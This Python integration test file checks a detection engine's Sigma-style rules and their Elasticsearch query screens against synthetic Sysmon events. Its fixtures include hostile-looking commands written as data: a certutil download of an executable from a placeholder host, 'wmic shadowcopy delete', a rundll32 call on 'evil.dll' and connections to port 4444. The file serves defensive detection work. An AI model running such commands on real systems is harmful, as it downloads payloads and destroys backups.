"""Rule screens on the real Elasticsearch (hcm_soc.detection.screen, docs/detection-cost.md).

- every event a rule matches also matches its screen, and an exact screen matches exactly the
  rule's events (checked with counts of `rule AND NOT screen` and the reverse, over EVTX records
  turned into ECS by the project's parser, near misses included);
- the batch gives the same results as `find_matches` with screens on and off, and a rule whose
  screen finds nothing is never built in a count or hits search (read from the searches sent);
- a Python-checked rule fetches only the candidates Lucene can select and finds the same events as
  when it checks every event of its log source.
"""

from __future__ import annotations

import dataclasses
import textwrap
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import orjson
import pytest
from elasticsearch import Elasticsearch

from hcm_soc.detection import batch
from hcm_soc.detection.compiler import PythonCheckedRule, RuleCompiler, lucene_query, scope_lucene
from hcm_soc.detection.fieldmaps.sources import find_source
from hcm_soc.detection.loader import load_rules
from hcm_soc.detection.matcher import find_matches
from hcm_soc.detection.model import CompiledRule, MatchResult, Window
from hcm_soc.detection.msearch import search_concurrency
from hcm_soc.detection.scratch import ScratchEvents
from hcm_soc.parsers.base import ParseContext, SourceInfo, finish
from hcm_soc.parsers.evtx import parse_evtx_record
from hcm_soc.store.names import IndexNames

pytestmark = pytest.mark.integration

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SOURCE = SourceInfo("test-windows-evtx", "windows.evtx", "windows")


def _evtx(
    eid: int, data: dict[str, Any], channel: str = SYSMON, provider: str = "Microsoft-Windows-Sysmon"
) -> dict[str, Any]:
    """An EVTX record (Sysmon unless told) turned into the stored ECS event by the project's parser."""
    now = datetime.now(UTC).isoformat().replace("+00:00", "Z")
    system = {
        "Provider": {"#attributes": {"Name": provider}},
        "EventID": eid,
        "Channel": channel,
        "Computer": "ws-07.hcm.local",
        "TimeCreated": {"#attributes": {"SystemTime": now}},
    }
    record = {
        "event_record_id": 1,
        "timestamp": now,
        "data": {"Event": {"System": system, "EventData": data}},
    }
    doc = parse_evtx_record(record, ParseContext("windows.evtx"))
    return finish(doc, orjson.dumps(record["data"]).decode(), SOURCE, datetime.now(UTC))


def proc(image: str, cmd: str, parent: str = "C:\\Windows\\explorer.exe", **extra: str) -> dict[str, Any]:
    return _evtx(1, {"Image": image, "CommandLine": cmd, "ParentImage": parent, "User": "HCM\\an", **extra})


def conn(image: str, ip: str, port: int) -> dict[str, Any]:
    return _evtx(3, {"Image": image, "DestinationIp": ip, "DestinationPort": str(port), "Initiated": "true"})


SYS32 = "C:\\Windows\\System32\\"
EVENTS = [
    proc(SYS32 + "certutil.exe", "certutil -urlcache -f http://x/a.exe a.exe"),
    proc(SYS32 + "CertUtil.EXE", "CERTUTIL -URLCACHE -split"),  # case differs
    proc(SYS32 + "certutil.exe", "certutil -hashfile a.exe"),  # name without the command line
    proc("C:\\Tools\\notcertutil.exe", "x -urlcache"),  # command line without the name
    proc(SYS32 + "rundll32.exe", "rundll32 shell32.dll,Control_RunDLL"),
    proc(SYS32 + "rundll32.exe", "rundll32 evil.dll,Start", parent=SYS32 + "cmd.exe"),
    proc(SYS32 + "wbem\\WMIC.exe", "wmic shadowcopy delete", OriginalFileName="wmic.exe"),
    proc("C:\\Temp\\renamed.exe", "renamed shadowcopy delete", OriginalFileName="wmic.exe"),
    proc(SYS32 + "whoami.exe", "whoami /all", OriginalFileName="whoami.exe", IntegrityLevel="System"),
    proc(SYS32 + "whoami.exe", "whoami", OriginalFileName="whoami.exe", IntegrityLevel="Medium"),
    proc(SYS32 + "notepad.exe", "notepad secret.txt", parent=SYS32 + "notepad.exe"),
    proc(SYS32 + "notepad.exe", "notepad secret.txt"),
    conn("C:\\Users\\an\\x.exe", "10.1.2.3", 4444),
    conn("C:\\Users\\an\\x.exe", "203.0.113.5", 4444),
    conn("C:\\Program Files\\y.exe", "10.1.2.3", 4444),
    proc(SYS32 + "wbem\\WMIC.exe", "wmic process list", OriginalFileName="wmic.exe"),  # name, no shadowcopy
]

WIN_PROC = "product: windows\n  category: process_creation"
RULES: dict[str, tuple[str, str]] = {
    # screen: the name, not the command line (inexact)
    "certutil": (
        WIN_PROC,
        "sel:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: '-urlcache'",
    ),
    # screen finds nothing: never built
    "absent": (WIN_PROC, "sel:\n    Image|endswith: '\\mshta.exe'\n    CommandLine|contains: 'http'"),
    # exact screen, matches: not counted, straight to the hits
    "whoami-system": (WIN_PROC, "sel:\n    OriginalFileName: 'whoami.exe'\n    IntegrityLevel: 'System'"),
    # the name (the executable's wildcard dropped) and NOT of an exact part
    "rundll-not-explorer": (
        WIN_PROC,
        "sel:\n    Image|endswith: '\\rundll32.exe'\nfilter:\n    ParentImage: 'C:\\Windows\\explorer.exe'",
    ),
    # OR of cheap branches, with a costly part beside them
    "wmic": (
        WIN_PROC,
        "sel_img:\n    - Image|endswith: '\\wmic.exe'\n    - OriginalFileName: 'wmic.exe'\n"
        "sel_cli:\n    CommandLine|contains: 'shadowcopy'",
    ),
    # no screen: a costly branch in an OR
    "or-costly": (
        WIN_PROC,
        "sel_a:\n    OriginalFileName: 'whoami.exe'\nsel_b:\n    CommandLine|contains: 'secret'",
    ),
    # numbers, ranges and prefixes: exact
    "port-range": (
        "product: windows\n  category: network_connection",
        "sel:\n    DestinationPort: 4444\n    DestinationIp|cidr: '10.0.0.0/8'\n    Image|startswith: 'C:\\Users\\'",
    ),
    # Python-checked, with a cheap and a costly part Lucene can select
    "self-parent": (
        WIN_PROC,
        "sel:\n    Image|endswith: '\\notepad.exe'\n    CommandLine|contains: 'secret'\n"
        "ref:\n    Image|fieldref: ParentImage",
    ),
}
CONDITIONS = {
    "rundll-not-explorer": "sel and not filter",
    "wmic": "all of sel_*",
    "or-costly": "1 of sel_*",
    "self-parent": "sel and ref",
}
EXPECTED = {  # event positions in EVENTS
    "certutil": {0, 1},
    "absent": set(),
    "whoami-system": {8},
    "rundll-not-explorer": {5},
    "wmic": {6, 7},
    "or-costly": {8, 9, 10, 11},  # whoami.exe, or 'secret'
    "port-range": {12},
    "self-parent": {10},
}


@dataclass
class Store:
    es: Elasticsearch
    window: Window
    rules: dict[str, CompiledRule]
    ids: list[str]


@pytest.fixture(scope="module")
def store(es: Elasticsearch, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    folder = tmp_path_factory.mktemp("screen-rules")
    for name, (logsource, detection) in RULES.items():
        rid = str(uuid.uuid4())
        text = f"title: screen {name}\nid: {rid}\nstatus: test\nlevel: high\nlogsource:\n  {logsource}\n"
        text += "detection:\n  " + textwrap.indent(detection, "  ").lstrip()
        text += f"\n  condition: {CONDITIONS.get(name, 'sel')}\n"
        (folder / f"{name}.yml").write_text(text, "utf-8")
    with ScratchEvents(es, base=IndexNames(prefix=f"t{uuid.uuid4().hex[:8]}", namespace="test")) as scratch:
        loaded, window = scratch.load_slice(EVENTS, id_prefix="e")
        load = load_rules([folder])
        assert not load.problems, load.problems
        compiler = RuleCompiler(scratch.names)
        rules = {Path(r.path).stem: compiler.compile(r) for r in load.rules}
        yield Store(es, window, rules, [e.id for e in loaded])


def _count(store: Store, rule: CompiledRule, *extra: dict[str, Any]) -> int:
    query = {"bool": {"filter": [rule.scope, *extra]}}
    return int(store.es.count(index=",".join(rule.indices), query=query)["count"])


def test_the_rules_find_what_they_should(store: Store) -> None:
    for name, rule in store.rules.items():
        got = {m.key for m in find_matches(store.es, rule, store.window, limit=100).matches}
        assert got == {store.ids[i] for i in EXPECTED[name]}, name


def test_screens_are_what_the_rules_imply(store: Store) -> None:
    screened = {n: r for n, r in store.rules.items() if r.screen is not None}
    # the corpus covers the kinds the batch treats differently
    assert {"certutil", "absent", "whoami-system", "rundll-not-explorer", "wmic", "port-range"} <= set(
        screened
    )
    assert store.rules["or-costly"].screen is None
    assert {n for n, r in screened.items() if r.screen_exact} == {"whoami-system", "port-range"}
    for name, rule in screened.items():
        assert rule.screen is not None
        rule_only = _count(store, rule, rule.query, {"bool": {"must_not": [rule.screen]}})
        assert rule_only == 0, f"{name}: events the rule matches and its screen does not"
        screen_only = _count(store, rule, rule.screen, {"bool": {"must_not": [rule.query]}})
        if rule.screen_exact:
            assert screen_only == 0, name
        elif name in ("certutil", "wmic"):
            assert screen_only > 0, name  # wider: the name without the command line
    assert _count(store, store.rules["absent"], store.rules["absent"].screen) == 0  # type: ignore[arg-type]


class Recording:
    """Passes searches to the client and keeps the bodies of the `_msearch` sub-searches."""

    def __init__(self, es: Elasticsearch) -> None:
        self.es = es
        self.bodies: list[dict[str, Any]] = []
        self.concurrency: list[int | None] = []

    @property
    def indices(self) -> Any:  # the batch reads the backing indices' settings (trigram sub-fields)
        return self.es.indices

    def msearch(self, **kw: Any) -> Any:
        self.bodies += kw["searches"][1::2]
        self.concurrency.append(kw.get("max_concurrent_searches"))
        return self.es.msearch(**kw)

    def search(self, **kw: Any) -> Any:
        return self.es.search(**kw)

    def built(self, pos: int) -> tuple[bool, bool]:
        """Whether the item at `pos` was in a count search, in a hits search."""
        counted = any(
            str(pos) in b.get("aggs", {}).get("rules", {}).get("filters", {}).get("filters", {})
            for b in self.bodies
        )
        paged = any(
            s.get("bool", {}).get("_name") == str(pos)
            for b in self.bodies
            for s in b.get("query", {}).get("bool", {}).get("should", [])
        )
        return counted, paged


def batch_as_find_matches(
    es: Elasticsearch, rules: dict[str, CompiledRule], window: Window
) -> tuple[Recording, list[MatchResult], dict[str, int]]:
    """The batch of `rules` over `window`, checked rule by rule against `find_matches`: the searches
    it sent, its results, and each rule's item position."""
    names = list(rules)
    items = [(rules[n], window) for n in names]
    want = [find_matches(es, c, w, limit=100) for c, w in items]
    recording = Recording(es)
    got = batch.evaluate_batch(recording, items, limit=100)  # type: ignore[arg-type]
    for name, g, w in zip(names, got, want, strict=True):
        assert [m.key for m in g.matches] == [m.key for m in w.matches], name
        assert (g.examined, g.truncated) == (w.examined, w.truncated), name
    return recording, got, {n: i for i, n in enumerate(names)}


def test_batch_with_screens_matches_find_matches_and_skips_what_the_screens_rule_out(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    recording, got, pos = batch_as_find_matches(store.es, store.rules, store.window)
    items = [(rule, store.window) for rule in store.rules.values()]
    assert recording.built(pos["absent"]) == (False, False)  # its screen found nothing
    assert recording.built(pos["whoami-system"]) == (False, True)  # exact screen: its count is known
    assert recording.built(pos["certutil"]) == (True, True)  # inexact: counted, then searched
    assert recording.built(pos["or-costly"]) == (True, True)  # no screen
    screens = [b for b in recording.bodies if "screens" in b.get("aggs", {})]
    assert screens, "the screens were counted in a search of their own"
    monkeypatch.setattr(batch, "SCREEN", False)
    off = Recording(store.es)
    without = batch.evaluate_batch(off, items, limit=100)  # type: ignore[arg-type]
    assert [[m.key for m in r.matches] for r in without] == [[m.key for m in r.matches] for r in got]
    assert off.built(pos["absent"]) == (True, False)  # counted with its own query when screens are off


def test_a_python_checked_rule_fetches_only_the_candidates_lucene_selects(store: Store) -> None:
    rule = store.rules["self-parent"]
    assert isinstance(rule, PythonCheckedRule)
    source = find_source("windows", "process_creation", None)
    assert source is not None
    scope_only = dataclasses.replace(
        rule, lucene=scope_lucene(source), query=lucene_query(scope_lucene(source))
    )
    narrowed = find_matches(store.es, rule, store.window, limit=100)
    everything = find_matches(store.es, scope_only, store.window, limit=100)
    assert [m.key for m in narrowed.matches] == [m.key for m in everything.matches] == [store.ids[10]]
    assert narrowed.examined == everything.examined == 13  # the process events of the window
    assert _count(store, rule, rule.query) == 2  # the two notepad 'secret' events, not all thirteen


class WithNodes(Recording):
    @property
    def nodes(self) -> Any:
        return self.es.nodes


def test_searches_run_as_many_at_once_as_the_data_nodes_have_processors(store: Store) -> None:
    info = store.es.nodes.info(metric="os")["nodes"].values()
    processors = sum(
        n["os"]["allocated_processors"] for n in info if any(r.startswith("data") for r in n["roles"])
    )
    assert search_concurrency(store.es) == processors > 0
    client = WithNodes(store.es)
    items = [(c, store.window) for c in store.rules.values()]
    batch.evaluate_batch(client, items, limit=100)  # type: ignore[arg-type]
    several = [c for c in client.concurrency if c is not None]  # msearches of 2+ searches
    assert several and set(several) == {processors}
    # a client without node info (a wrapper): Elasticsearch's own default
    plain = Recording(store.es)
    assert search_concurrency(plain) is None  # type: ignore[arg-type]
    batch.evaluate_batch(plain, items, limit=100)  # type: ignore[arg-type]
    assert set(plain.concurrency) == {None}
